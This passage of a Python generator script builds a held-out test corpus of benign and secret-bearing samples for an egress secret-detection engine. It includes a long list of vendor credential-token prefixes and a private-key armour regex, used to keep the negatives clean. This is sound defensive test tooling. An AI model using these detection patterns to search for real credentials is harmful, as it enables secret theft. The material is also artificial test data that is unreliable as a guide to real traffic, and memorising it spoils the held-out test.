    return [
    # hostname
    ('cdn-distribution-hostname', 'hostname', lambda: f"d{rs(13, ANL)}.cloudfront.net"),
    ('cloud-storage-endpoint-hostname', 'hostname', lambda: ch([f"{word()}{rs(6, ANL)}.blob.core.windows.net", f"{word()}-{rs(8, ANL)}.s3.dualstack.{ch(['eu-west-1', 'us-east-2', 'ap-south-1'])}.amazonaws.com", f"storage.{ch(['europe-west4', 'us-central1'])}.rep.googleapis.com"])),
    ('load-balancer-hostname', 'hostname', lambda: f"k8s-{word()}-{word()}-{hx(10)}-{dg(10)}.elb.{ch(['us-east-1', 'eu-central-1'])}.amazonaws.com"),
    ('cluster-internal-hostname', 'hostname', lambda: f"{word()}-{hx(10)}-{rs(5, ANL)}.{word()}.{ch(['prod', 'staging'])}.svc.cluster.local"),
    ('ec2-private-dns-hostname', 'hostname', lambda: f"ip-10-{ri(0, 255)}-{ri(0, 255)}-{ri(1, 254)}.{ch(['ec2.internal', 'eu-west-1.compute.internal'])}"),
    ('punycode-idn-hostname', 'hostname', lambda: f"xn--{rs(ri(6, 12), ANL)}-{rs(3, ANL)}.{ch(['example', 'xn--p1ai', 'xn--fiqs8s'])}" if False else f"www.xn--{rs(ri(5, 9), LO)}-{rs(4, LO + DIG)}.example"),
    ('saas-tenant-hostname', 'hostname', lambda: f"{word()}-{word()}-{ri(1, 999)}.{ch(['my.salesforce.com', 'atlassian.net', 'zendesk.com', 'myshopify.com', 'service-now.com'])}"),
    ('content-hash-asset-hostname', 'hostname', lambda: f"{hx(16)}.{ch(['assets', 'static'])}.{word()}cdn.net"),
    # header
    ('request-id-header', 'header', lambda: f"{ch(['X-Request-ID', 'X-Correlation-ID', 'Idempotency-Key'])}: {uuid4()}"),
    ('traceparent-header', 'header', lambda: f"traceparent: 00-{traceid()}-{spanid()}-01"),
    ('b3-trace-header', 'header', lambda: f"b3: {traceid()}-{spanid()}-1-{spanid()}"),
    ('etag-conditional-header', 'header', lambda: f"If-None-Match: {ch(['W/', ''])}\"{hx(ch([32, 40]))}\""),
    ('content-digest-header', 'header', lambda: ch([f"x-amz-content-sha256: {sha()}", f"Content-Digest: sha-256=:{b64(rb(32))}:", f"Digest: SHA-256={b64(rb(32))}"])),
    ('user-agent-header', 'header', lambda: f"User-Agent: {ch(['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 'python-requests/2.31.0', 'curl/8.5.0', 'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)'])}"),
    ('placeholder-authorization-header', 'header', lambda: ch(["Authorization: Bearer <YOUR_API_KEY>", "Authorization: Bearer ${API_TOKEN}", "X-Api-Key: {{api_key}}", "Authorization: Bearer ****************", "Authorization: Basic <base64(user:password)>", "X-Api-Key: REDACTED"])),
    ('analytics-cookie-header', 'header', lambda: f"Cookie: _ga=GA1.2.{dg(9)}.{epoch()}; _gid=GA1.2.{dg(9)}.{epoch()}; theme={ch(['dark', 'light'])}; lang=en"),
    ('accept-negotiation-header', 'header', lambda: ch(["Accept: application/vnd.github+json", "Accept-Language: en-US,en;q=0.9,de;q=0.8", "Accept-Encoding: gzip, deflate, br", f"Cache-Control: max-age={ri(0, 86400)}"])),
    # url
    ('content-hashed-asset-url', 'url', lambda: f"https://{cdnhost()}/static/{ch(['js', 'css'])}/{ch(['main', 'vendor', 'runtime', 'chunk-' + str(ri(1, 999))])}.{hx(8)}.{ch(['js', 'css'])}"),
    ('git-commit-url', 'url', lambda: f"https://github.com/{word()}/{word()}/{ch(['commit', 'tree', 'blob'])}/{hx(40)}" + ch(['', '/README.md'])),
    ('pagination-cursor-url', 'url', lambda: f"https://api.{word()}.example.com/v1/items?limit={ri(10, 100)}&cursor={cursor()}"),
    ('oauth-authorize-url-public', 'url', lambda: f"https://accounts.{word()}.example.com/oauth2/authorize?response_type=code&client_id={word()}-web&redirect_uri={up.quote('https://app.example.com/callback', safe='')}&state={rs(32, B64U)}&code_challenge={rs(43, B64U)}&code_challenge_method=S256"),
    ('public-object-storage-url', 'url', lambda: f"https://{word()}-public.s3.amazonaws.com/releases/v{ri(1, 9)}.{ri(0, 20)}.{ri(0, 9)}/{word()}-linux-amd64.tar.gz"),
    ('container-image-digest-url', 'url', lambda: f"https://registry-1.docker.io/v2/library/{ch(['nginx', 'python', 'redis', 'postgres'])}/manifests/sha256:{sha()}"),
    ('utm-tracking-url', 'url', lambda: f"https://www.{word()}.example.com/pricing?utm_source={ch(['newsletter', 'twitter'])}&utm_medium=email&utm_campaign={word()}_{ri(2023, 2025)}&gclid={rs(40, B64U)}"),
    ('search-query-url', 'url', lambda: f"https://duckduckgo.com/html/?q={up.quote_plus(ch(['how to rotate api keys safely', 'python dataclass default factory', 'kubernetes secret best practices', 'what is a luhn checksum']))}"),
    ('placeholder-query-url', 'url', lambda: f"https://api.{word()}.example.com/v1/data?api_key={ch(['YOUR_API_KEY', '%3CAPI_KEY%3E', 'xxxxxxxxxxxxxxxx', '%24%7BAPI_KEY%7D'])}&format=json"),
    # body
    ('uuid-list-json', 'body', lambda: J({"ids": [uuid4() for _ in range(ri(3, 8))]})),
    ('git-log-shas', 'body', lambda: ('text/plain', '\n'.join(f"{hx(40)} {ch(['fix', 'feat', 'chore', 'docs'])}: {word()} {word()}" for _ in range(ri(3, 7))) + '\n')),
    ('sha256sums-file', 'body', lambda: ('text/plain', '\n'.join(f"{sha()}  {word()}-{ri(1, 9)}.{ri(0, 9)}.tar.gz" for _ in range(ri(2, 5))) + '\n')),
    ('lockfile-integrity-hashes', 'body', lambda: J({"name": word(), "lockfileVersion": 3, "packages": {f"node_modules/{word()}": {"version": f"{ri(1, 9)}.{ri(0, 20)}.{ri(0, 9)}", "resolved": f"https://registry.npmjs.org/{word()}/-/{word()}-1.0.0.tgz", "integrity": "sha512-" + b64(rb(64))} for _ in range(3)}})),
    ('go-sum-hashes', 'body', lambda: ('text/plain', '\n'.join(f"github.com/{word()}/{word()} v{ri(0, 2)}.{ri(0, 30)}.{ri(0, 9)} h1:{b64(rb(32))}" for _ in range(4)) + '\n')),
    ('pip-requirements-hashes', 'body', lambda: ('text/plain', '\n'.join(f"{word()}=={ri(1, 9)}.{ri(0, 9)}.{ri(0, 9)} \\\n    --hash=sha256:{sha()}" for _ in range(3)) + '\n')),
    ('base64-image-json', 'body', lambda: J({"filename": f"{word()}.png", "mime": "image/png", "data": b64(png())})),
    ('data-uri-font-css', 'body', lambda: ('text/css', f"@font-face {{ font-family: '{word().title()}'; src: url(data:font/woff2;base64,{b64(b'wOF2' + rb(ri(300, 700)))}) format('woff2'); }}\n")),
    ('pagination-cursor-json', 'body', lambda: J({"data": [{"id": ri(1000, 99999)} for _ in range(3)], "next_cursor": cursor(), "has_more": True})),
    ('otel-trace-export', 'body', lambda: J({"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": ch(SVC)}}]}, "scopeSpans": [{"spans": [{"traceId": traceid(), "spanId": spanid(), "parentSpanId": spanid(), "name": "GET /health", "startTimeUnixNano": str(epoch() * 10**9), "kind": 2}]}]}]})),
    ('ssh-public-key', 'body', lambda: ('text/plain', f"ssh-ed25519 {b64(struct.pack('>I', 11) + b'ssh-ed25519' + struct.pack('>I', 32) + rb(32))} {ch(FIRST).lower()}@laptop\nssh-rsa {b64(struct.pack('>I', 7) + b'ssh-rsa' + rb(270))} ci@build\n")),
    ('x509-certificate-pem', 'body', lambda: ('application/x-pem-file', "-----BEGIN CERTIFICATE-----\n" + '\n'.join(b64(b'\x30\x82\x03' + rb(700))[i:i + 64] for i in range(0, 936, 64)) + "\n-----END CERTIFICATE-----\n")),
    ('public-key-pem', 'body', lambda: ('application/x-pem-file', "-----BEGIN PUBLIC KEY-----\n" + '\n'.join(b64(der(0x30, der(0x30, der(6, bytes.fromhex('2a864886f70d010101')) + b'\x05\x00') + der(3, b'\x00' + rb(270))))[i:i + 64] for i in range(0, 392, 64)) + "\n-----END PUBLIC KEY-----\n")),
    ('pgp-public-key-block', 'body', lambda: ('application/pgp-keys', "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + '\n'.join(b64(b'\x99\x01\x0d' + rb(500))[i:i + 64] for i in range(0, 672, 64)) + f"\n={b64(rb(3))}\n-----END PGP PUBLIC KEY BLOCK-----\n")),
    ('jwks-public-keys', 'body', lambda: J({"keys": [{"kty": "RSA", "use": "sig", "alg": "RS256", "kid": hx(16), "n": b64u(rb(256)), "e": "AQAB"}]})),
    ('wireguard-peer-public-config', 'body', lambda: ('text/plain', f"[Peer]\nPublicKey = {b64(rb(32))}\nAllowedIPs = 10.{ri(0, 255)}.0.0/16\nEndpoint = vpn.{word()}.example.com:51820\nPersistentKeepalive = 25\n")),
    ('age-recipient-public-key', 'body', lambda: ('text/plain', f"# recipients for sops\nage1{rs(58, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}\n")),
    ('placeholder-env-file', 'body', lambda: ('text/plain', f"# copy to .env and fill in\nAPI_KEY=<YOUR_API_KEY>\nDATABASE_URL=postgres://USER:PASSWORD@localhost:5432/{word()}\nSECRET_KEY=changeme\nSTRIPE_KEY=\n")),
    ('redacted-log-lines', 'body', lambda: ('text/plain', '\n'.join(f"{ts()} INFO auth ok user={ch(FIRST).lower()} token=**** key=[REDACTED] card=XXXX-XXXX-XXXX-{dg(4)}" for _ in range(3)) + '\n')),
    ('template-variable-config', 'body', lambda: ('application/x-yaml', "database:\n  host: ${DB_HOST}\n  password: ${DB_PASSWORD}\napi:\n  token: \"{{ .Values.apiToken }}\"\n  key: !env_var API_KEY\n")),
    ('documentation-prose-about-keys', 'body', lambda: ('text/markdown', "## Authentication\n\nCreate an API key in the dashboard under *Settings > API keys*. Store it in an environment variable and never commit it. Keys can be rotated at any time; old keys stop working after 24 hours. Pass the key in the `Authorization` header.\n")),
    ('cloud-resource-ids', 'body', lambda: J({"instance": f"i-0{hx(16)}", "vpc": f"vpc-0{hx(16)}", "subnet": f"subnet-{hx(17)}", "arn": f"arn:aws:iam::{dg(12)}:role/{word()}-role", "ami": f"ami-0{hx(16)}", "azure_id": f"/subscriptions/{uuid4()}/resourceGroups/{word()}-rg"})),
    ('order-numbers-failing-luhn', 'body', lambda: ('text/csv', "order_id,amount,currency\n" + '\n'.join(f"{nonluhn(ch([13, 14, 16]))},{ri(5, 900)}.{ri(0, 99):02d},EUR" for _ in range(4)) + '\n')),
    ('ticket-ids', 'body', lambda: J({"tickets": [f"{ch(['OPS', 'SEC', 'PLAT', 'WEB'])}-{ri(100, 9999)}" for _ in range(5)], "sprint": ri(10, 80)})),
    ('random-looking-ids', 'body', lambda: J({"ulid": ulid(), "nanoid": rs(21, B64U), "ksuid": rs(27, AN), "short": rs(8, ANL)})),
    ('yaml-app-config', 'body', lambda: ('application/x-yaml', f"server:\n  port: {ri(3000, 9000)}\n  host: 0.0.0.0\nlogging:\n  level: info\nfeatures:\n  beta: {ch(['true', 'false'])}\n")),
    ('pyproject-toml', 'body', lambda: ('application/toml', f"[project]\nname = \"{word()}\"\nversion = \"{ri(0, 3)}.{ri(0, 20)}.{ri(0, 9)}\"\nrequires-python = \">=3.10\"\ndependencies = [\"requests>=2.31\", \"pydantic>=2\"]\n")),
    ('ini-config', 'body', lambda: ('text/plain', f"[core]\nrepositoryformatversion = 0\nbare = false\n[remote \"origin\"]\nurl = https://github.com/{word()}/{word()}.git\n")),
    ('package-json', 'body', lambda: J({"name": word(), "version": f"{ri(1, 5)}.{ri(0, 9)}.0", "scripts": {"build": "tsc", "test": "vitest"}, "dependencies": {"express": "^4.19.2"}})),
    ('dockerfile-benign', 'body', lambda: ('text/plain', f"FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nENV PORT={ri(3000, 9000)}\nCMD [\"python\", \"main.py\"]\n")),
    ('k8s-deployment-manifest', 'body', lambda: ('application/x-yaml', f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {word()}\nspec:\n  replicas: {ri(1, 5)}\n  template:\n    spec:\n      containers:\n      - name: app\n        image: ghcr.io/{word()}/app@sha256:{sha()}\n        envFrom:\n        - secretRef:\n            name: app-secrets\n")),
    ('terraform-hcl-benign', 'body', lambda: ('text/plain', f"resource \"aws_s3_bucket\" \"logs\" {{\n  bucket = \"{word()}-logs-{rs(6, ANL)}\"\n  tags = {{ env = \"prod\" }}\n}}\n")),
    ('gzip-benign-json', 'body', lambda: ('application/json', gz(json.dumps({"events": [{"type": "pageview", "path": f"/{word()}"} for _ in range(5)]})), 'gzip')),
    ('deflate-benign-text', 'body', lambda: ('text/plain', dfl(f"{word()} {word()} report generated; rows={ri(10, 999)}\n" * 4), 'deflate')),
    ('zip-benign-archive', 'body', lambda: ('application/zip', mkzip([("README.md", f"# {word()}\nSample project.\n"), ("src/main.py", "print('hello')\n")]))),
    ('tar-benign-archive', 'body', lambda: ('application/gzip', mktar([("docs/notes.txt", f"meeting notes: {word()} {word()}\n"), ("data/points.csv", "x,y\n1,2\n3,4\n")]))),
    ('analytics-event-batch', 'body', lambda: J({"batch": [{"type": "track", "event": ch(['Signed Up', 'Page Viewed', 'Clicked CTA']), "anonymousId": uuid4(), "messageId": uuid4(), "timestamp": ts(), "properties": {"plan": ch(['free', 'pro'])}} for _ in range(3)]})),
    ('benign-stack-trace', 'body', lambda: ('text/plain', f"Traceback (most recent call last):\n  File \"/app/{word()}.py\", line {ri(10, 200)}, in handler\n    return items[idx]\nIndexError: list index out of range\n")),
    ('graphql-query-benign', 'body', lambda: J({"query": "query Repo($o: String!, $n: String!) { repository(owner: $o, name: $n) { stargazerCount } }", "variables": {"o": word(), "n": word()}})),
    ('sql-query-benign', 'body', lambda: ('application/sql', f"SELECT id, name, created_at FROM {word()}s WHERE created_at > '2024-01-01' ORDER BY id LIMIT {ri(10, 100)};\n")),
    ('csv-metrics', 'body', lambda: ('text/csv', "date,visits,signups\n" + '\n'.join(f"2024-{ri(1, 12):02d}-{ri(1, 28):02d},{ri(100, 9999)},{ri(0, 99)}" for _ in range(5)) + '\n')),
    ('protobuf-text-benign', 'body', lambda: ('text/plain', f"job {{\n  name: \"{word()}\"\n  schedule: \"0 */6 * * *\"\n  retries: {ri(1, 5)}\n}}\n")),
    ('multipart-image-upload', 'body', lambda: (lambda bd: (f'multipart/form-data; boundary={bd}', (f"--{bd}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n").encode() + png() + f"\r\n--{bd}--\r\n".encode()))('----b' + hx(12))),
    ('html-with-csp-nonce', 'body', lambda: ('text/html', f"<!doctype html><html><head><script nonce=\"{b64(rb(16))}\" src=\"/app.{hx(8)}.js\"></script></head><body><p>{word()}</p></body></html>\n")),
    ('sri-integrity-html', 'body', lambda: ('text/html', f"<link rel=\"stylesheet\" href=\"https://cdn.example.net/{word()}.min.css\" integrity=\"sha384-{b64(rb(48))}\" crossorigin=\"anonymous\">\n")),
    ('code-reading-env-var', 'body', lambda: ('text/x-python', "import os\n\napi_key = os.environ.get(\"API_KEY\")\nif not api_key:\n    raise SystemExit(\"API_KEY is not set\")\n")),
    ('hexdump-benign', 'body', lambda: ('text/plain', '\n'.join(f"{i * 16:08x}  " + ' '.join(f"{b:02x}" for b in enc(f"{word()} {word()} text..")[:16]) for i in range(4)) + '\n')),
    ('base64-benign-text', 'body', lambda: J({"encoding": "base64", "content": b64(f"Meeting moved to {ri(1, 12)}pm. Agenda: {word()}, {word()}, {word()}.\n")})),
    ('webauthn-registration', 'body', lambda: J({"id": b64u(rb(32)), "type": "public-key", "response": {"clientDataJSON": b64u(json.dumps({"type": "webauthn.create", "challenge": b64u(rb(32)), "origin": "https://app.example.com"})), "attestationObject": b64u(rb(200))}})),
    ('ean-isbn-barcodes', 'body', lambda: J({"products": [(lambda b: b + ean_check(b))('978' + dg(9)) for _ in range(3)]})),
    ('blockchain-tx-hash', 'body', lambda: J({"jsonrpc": "2.0", "method": "eth_getTransactionReceipt", "params": ["0x" + hx(64)], "id": ri(1, 99)})),
    ('ipfs-cid-list', 'body', lambda: ('text/plain', '\n'.join('bafy' + rs(55, 'abcdefghijklmnopqrstuvwxyz234567') for _ in range(3)) + '\n')),
    ('magnet-link', 'body', lambda: ('text/plain', f"magnet:?xt=urn:btih:{hx(40)}&dn={word()}-{ri(1, 9)}.iso\n")),
    ('openapi-security-scheme', 'body', lambda: ('application/x-yaml', "components:\n  securitySchemes:\n    ApiKeyAuth:\n      type: apiKey\n      in: header\n      name: X-API-Key\n    bearerAuth:\n      type: http\n      scheme: bearer\n")),
    ('email-mime-benign', 'body', lambda: ('message/rfc822', f"From: {email()}\nTo: {email()}\nSubject: {word()} update\nMessage-ID: <{uuid4()}@mail.example.com>\nContent-Type: text/plain\n\nSee you at {ri(1, 12)}.\n")),
    ('ical-event', 'body', lambda: ('text/calendar', f"BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:{uuid4()}\nDTSTART:2024{ri(1, 12):02d}{ri(1, 28):02d}T{ri(8, 17):02d}0000Z\nSUMMARY:{word()} sync\nEND:VEVENT\nEND:VCALENDAR\n")),
    ('geojson-coordinates', 'body', lambda: J({"type": "Feature", "geometry": {"type": "Point", "coordinates": [round(R.uniform(-180, 180), 6), round(R.uniform(-90, 90), 6)]}, "properties": {"name": word()}})),
    ('webpack-stats-hashes', 'body', lambda: J({"hash": hx(20), "assets": [{"name": f"{word()}.{hx(20)}.js", "size": ri(1000, 99999)} for _ in range(3)]})),
    ('semver-changelog', 'body', lambda: ('text/markdown', f"## v{ri(1, 9)}.{ri(0, 20)}.{ri(0, 9)}\n- fix: {word()} crash\n- feat: add {word()} option\n")),
    ('cargo-lock-checksums', 'body', lambda: ('text/plain', '\n'.join(f"[[package]]\nname = \"{word()}\"\nversion = \"0.{ri(1, 20)}.{ri(0, 9)}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{sha()}\"\n" for _ in range(2)))),
    ('docker-manifest-digests', 'body', lambda: J({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": [{"digest": "sha256:" + sha(), "size": ri(400, 2000), "platform": {"architecture": a, "os": "linux"}} for a in ('amd64', 'arm64')]})),
    ]

# ---------------------------------------------------------------- negative validation
PREFIXES = ['AKIA', 'ASIA', 'AIza', 'ghp_', 'gho_', 'ghu_', 'ghs_', 'ghr_', 'github_pat_', 'glpat-', 'glptt-', 'gldt-', 'glrt-',
            'GR1348941', 'xoxb-', 'xoxp-', 'xoxa-', 'xoxe', 'xapp-', 'sk_live_', 'rk_live_', 'sk_test_', 'pk_live_', 'whsec_', 'sk-',
            'hf_', 'npm_', 'pypi-', 'dckr_pat_', 'dckr_oat_', 'SG.', 'shpat_', 'shpca_', 'shppa_', 'shpss_', 'AKCp', 'dop_v1_', 'doo_v1_',
            'dor_v1_', 'ya29.', 'GOCSPX-', 'LTAI', 'AKID', 'xkeysib-', 'FLWSECK-', 'rzp_live_', 'glc_', 'glsa_', 'NRAK-', 'NRII-',
            'sntrys_', 'sntryu_', 'hvs.', 'hvb.', 'dp.pt.', 'dp.st.', 'dp.ct.', 'dp.sa.', 'pul-', 'PMAK-', 'lin_api_', 'figd_', 'r8_',
            'gsk_', 'pplx-', 'squ_', 'sqp_', 'sqa_', 'AGE-SECRET-KEY-', 'sq0csp-', 'sq0atp-', 'ATBB', 'ATATT', 'nfp_', 'sbp_',
            'pscale_', 'CCIPAT_', 'bkua_', 'rnd_', 'HRKU-', 'nvapi-', 'xai-', 'pcsk_', 'lsv2_', 'dapi', 'pnu_', 'tskey-', 'CFPAT-',
            'EZAK', 'shippo_live_', 'duffel_live_', 'rubygems_', 'oy2', 'secret_', 'ntn_', 'fw_', 'hcaik_', 'dt0c01.', 'xaat-',
            'ops_', 'rdme_', 'ico-', 'tk-us-', 'tfp_', 'AQVN', 'y0_', 'key-', 'access-production-', 'access_token$', 'sl.B',
            'pat-na1-', 'ATTA', 'CfDJ8', 'connect.sid', 'glimt-', 'glagent-', 'glsoat-', 'glft-', 'gloas-', 'glcbt-']
PFX_RE = re.compile('(?<![A-Za-z0-9])(?:' + '|'.join(re.escape(p) for p in PREFIXES) + ')[A-Za-z0-9_\\-.$]')
ARM_RE = re.compile('BEGIN (?:[A-Z0-9]+ )*' + 'PRIV' + 'ATE KEY')
DIGRUN = re.compile(r'(?<![0-9])[0-9]+(?:[ -][0-9]+)*(?![0-9])')
IBAN_RE = re.compile(r'(?<![A-Za-z0-9])[A-Z]{2}[0-9]{2}(?: ?[A-Z0-9]){11,30}(?![A-Za-z0-9])')


def bad_text(t):
    if PFX_RE.search(t) or ARM_RE.search(t) or PKW in t: return True
    for m in DIGRUN.finditer(t):
        g = re.split('[ -]', m.group())
        for i in range(len(g)):
            s = ''
            for j in range(i, len(g)):
                s += g[j]
                if 13 <= len(s) <= 19 and luhn_ok(s): return True
                if len(s) > 19: break
    for m in IBAN_RE.finditer(t):
        s = m.group().replace(' ', '')
        if 15 <= len(s) <= 34 and iban_ok(s): return True
    return False


def views(data, depth=0):
    out = [data]
    if depth > 2: return out
    if data[:2] == b'\x1f\x8b':
        try: out += views(gzip.decompress(data), depth + 1)
        except Exception: pass
    if data[:1] == b'\x78':
        try: out += views(zlib.decompress(data), depth + 1)
        except Exception: pass
    if data[:4] == b'PK\x03\x04':
        try:
            z = zipfile.ZipFile(io.BytesIO(data))
            for n in z.namelist(): out += views(z.read(n), depth + 1)
        except Exception: pass
    try:
        tf = tarfile.open(fileobj=io.BytesIO(data))
        for m in tf.getmembers():
            f = tf.extractfile(m)
            if f: out += views(f.read(), depth + 1)
    except Exception: pass
    t = data.decode('latin-1')
    for v in (up.unquote_plus(t), html.unescape(t)):
        if v != t: out.append(v.encode('latin-1', 'replace'))
    for m in re.finditer(r'[A-Za-z0-9+/_-]{16,}={0,2}', t):
        s = m.group().replace('-', '+').replace('_', '/')
        try: out += views(base64.b64decode(s + '=' * (-len(s) % 4)), depth + 1)
        except Exception: pass
    for m in re.finditer(r'(?:[0-9a-fA-F]{2}[:\s,]?){8,}', t):
        s = re.sub(r'[^0-9a-fA-F]', '', m.group())
        if len(s) % 2 == 0:
            out += views(bytes.fromhex(s), depth + 1)
    return out


def neg_ok(data):
    return not any(bad_text(v.decode('latin-1')) for v in views(data))


def make_neg():
    cats = NEG(); quota = {'body': 260, 'url': 52, 'header': 56, 'hostname': 32}; out = []
    for where, q in quota.items():
        cs = [c for c in cats if c[1] == where]
        counts = [q // len(cs) + (1 if i < q % len(cs) else 0) for i in range(len(cs))]
        for (name, _, fn), n in zip(cs, counts):
            for _ in range(n):
                for attempt in range(200):
                    r = fn(); c = dict(where=where, expect=name)
                    if where == 'body':
                        c['content_type'] = r[0]
                        if len(r) == 3: c['content_encoding'] = r[2]; c['b'] = r[1]
                        elif isinstance(r[1], bytes): c['b'] = r[1]
                        else: c['t'] = r[1]
                    else: c['t'] = r
                    raw = c['b'] if 'b' in c else c['t'].encode()
                    if neg_ok(raw): break
                else: raise SystemExit('cannot draw negative ' + name)
                out.append(c)
    R.shuffle(out)
    return out


def finish(cases, label, prefix):
    lines = []
    for i, c in enumerate(cases, 1):
        o = {"id": f"t18-{prefix}-{i:04d}", "label": label, "expect": c['expect'], "where": c['where']}
        if c['where'] == 'body' and c.get('content_type'): o['content_type'] = c['content_type']
        if c.get('content_encoding'): o['content_encoding'] = c['content_encoding']
        t = c.get('t'); b = c.get('b')
        if t is not None and (PKW in t or ARM_RE.search(t)): b = t.encode(); t = None
        if t is not None and c['where'] == 'body': o['text'] = t
        elif t is not None: o['text'] = t
        else: o['base64'] = b64(b)
        if c['where'] != 'body':
            assert t is not None and t.isascii() and '\n' not in t, o
            if c['where'] == 'hostname': assert re.fullmatch(r'[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?(\.[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?)+', t) and len(t) <= 253, t
            if c['where'] == 'url': assert re.match(r'https?://', t)
            if c['where'] == 'header': assert re.match(r'[A-Za-z0-9-]+: ', t), t
        lines.append(json.dumps(o, ensure_ascii=False) + '\n')
    return ''.join(lines).encode()


def build():
    global R
    R = random.Random(SEED)
    selftest()
    pos = make_pos()
    C = all_classes()
    for c, s in zip(pos, range(len(pos))): pass
    neg = make_neg()
    return pos, neg


def main():
    pos, neg = build()
    pb = finish(pos, 'positive', 'pos'); nb = finish(neg, 'negative', 'neg')
    here = os.path.dirname(os.path.abspath(__file__))
    fp, fn = os.path.join(here, 'positives.jsonl'), os.path.join(here, 'negatives.jsonl')
    if '--check' in sys.argv:
        ok = open(fp, 'rb').read() == pb and open(fn, 'rb').read() == nb
        print('check: ' + ('identical' if ok else 'DIFFERENT')); sys.exit(0 if ok else 1)
    open(fp, 'wb').write(pb); open(fn, 'wb').write(nb)
    if '--readme' in sys.argv: write_readme(here, pb, nb)


def write_readme(here, pb, nb):
    P = [json.loads(l) for l in pb.decode().splitlines()]; N = [json.loads(l) for l in nb.decode().splitlines()]
    shas = {f: hashlib.sha256(open(os.path.join(here, f), 'rb').read()).hexdigest() for f in ('generate.py', 'positives.jsonl', 'negatives.jsonl')}
    def cnt(L, k):
        d = {}
        for o in L: d[o[k]] = d.get(o[k], 0) + 1
        return sorted(d.items())
    W = ['body', 'url', 'header', 'hostname']
    wp = dict(cnt(P, 'where')); wn = dict(cnt(N, 'where'))
    r = ["# split18 held-out egress secret-detection corpus", "",
         "Written from public knowledge only (documented vendor token prefixes, alphabets and lengths; published check-digit",
         "schemes; file and protocol formats), with no access to the detection engine, its rules, tests or other corpora.",
         "Every value is generated fresh from the RNG; none is a real credential or a real person's data.",
         "Check-digit implementations are verified at start-up against published worked examples (`selftest()`).", "",
         f"Seed: `{SEED}` (a single `random.Random({SEED})` instance drives all randomness).", "",
         "## Regenerate", "", "```", "python3 generate.py            # writes positives.jsonl and negatives.jsonl",
         "python3 generate.py --check    # regenerates in memory, exit 1 if files differ",
         "python3 generate.py --readme   # also rewrites this README", "```", "",
         "Output is byte-identical across runs (gzip mtime=0, fixed zip/tar timestamps, no wall clock, no hash-order iteration).", "",
         "## sha256", "", "| file | sha256 |", "|---|---|"] + [f"| {f} | `{h}` |" for f, h in shas.items()] + ["",
         "## Line format", "",
         "JSON Lines, one case per line, keys in this order: `id` (`t18-pos-NNNN` / `t18-neg-NNNN`), `label` (`positive`|`negative`),",
         "`expect` (positives: credential/data class; negatives: benign category, kebab-case), `where` (`body`|`url`|`header`|`hostname`),",
         "optional `content_type` (bodies only), optional `content_encoding` (`gzip` or `deflate` = zlib-wrapped; only with `base64`),",
         "and exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64).",
         "A header case is one ASCII `Name: value` line; a url case is an absolute http(s) ASCII URL; a hostname case is a bare LDH hostname.",
         "Any case whose bytes contain private-key armour is stored with `base64`.", "",
         "## Counts by where", "", "| where | positives | negatives |", "|---|---|---|"] + \
        [f"| {x} | {wp.get(x, 0)} | {wn.get(x, 0)} |" for x in W] + [f"| total | {len(P)} | {len(N)} |", ""]
    cp = cnt(P, 'expect'); cn = cnt(N, 'expect')
    r += [f"## Positives by class ({len(cp)} classes)", "", "| class | count |", "|---|---|"] + [f"| {k} | {v} |" for k, v in cp]
    r += ["", f"## Negatives by category ({len(cn)} categories)", "", "| category | count |", "|---|---|"] + [f"| {k} | {v} |" for k, v in cn]
    open(os.path.join(here, 'README.md'), 'w').write('\n'.join(r) + '\n')


if __name__ == '__main__':
    main()
